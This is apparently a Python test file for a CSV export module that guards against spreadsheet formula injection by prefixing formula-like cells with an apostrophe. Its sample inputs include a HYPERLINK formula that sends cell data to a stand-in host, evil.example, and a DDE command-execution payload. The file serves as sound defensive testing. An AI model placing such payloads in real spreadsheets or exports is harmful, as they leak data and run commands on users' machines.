"""CSV for spreadsheets: no cell of it is reckoned with, and every value comes back."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ombud.spreadsheet import as_csv, cell, value_of

PIECES = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    "\t",
    "\n",
    " ",
    "'",
    '"',
    ";",
    ",",
    "“",
    "\u200b",
    "\ufeff",
    "a",
)
TEXTS = st.one_of(st.lists(st.sampled_from(PIECES), max_size=8).map("".join), st.text(max_size=12))
DANGEROUS = re.compile(r"[\s'\"“\u200b\ufeff]*[=+\-@＝＋－＠−]")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1",
    "\r=1", " =1", '"=1"', "'=1", "“=1”", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1", "\ufeff=1", "\n=1", "−1",
)  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_begins_like_a_formula_is_shown_as_text(formula: str) -> None:
    assert str(cell(formula)).startswith("'")


@pytest.mark.parametrize(
    "text", ["Harbour Star", "'t Hooft", "a=b", "a-b", "2300 USD", "例子公司", "O'Brien, Joan", ""]
)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 2.5])
def test_our_own_numbers_stay_numbers(number: float) -> None:
    assert cell(number) is number


@given(TEXTS)
@example("x;=1+1")
@example("x\n=1+1")
def test_no_cell_is_a_formula_wherever_it_is_cut(text: str) -> None:
    raw = as_csv(["a", "b"], [{"a": "ours", "b": text}]).decode()
    (line,) = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert line["a"] == "ours"
    for part in re.split(r"[;\t\r\n]", line["b"]):
        if DANGEROUS.match(part):
            assert part.lstrip(" ").startswith("'"), "an apostrophe stands before it"


@given(TEXTS)
@example("''=1")
@example("\n'\n=1")
def test_every_value_comes_back_but_what_no_text_has(text: str) -> None:
    clean = re.sub(r"[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]", "\N{REPLACEMENT CHARACTER}", text.replace("\r", "\n"))
    raw = as_csv(["a"], [{"a": clean}]).decode()
    (line,) = csv.reader(io.StringIO(raw.partition("\n")[2], newline=""))
    assert value_of(line[0] if line else "") == clean


def test_a_byte_order_mark_stands_first_only_where_it_is_asked_for() -> None:
    assert as_csv(["a"], [{"a": "é"}]) == "a\né\n".encode()
    assert as_csv(["a"], [], marked=True) == b"\xef\xbb\xbfa\n"
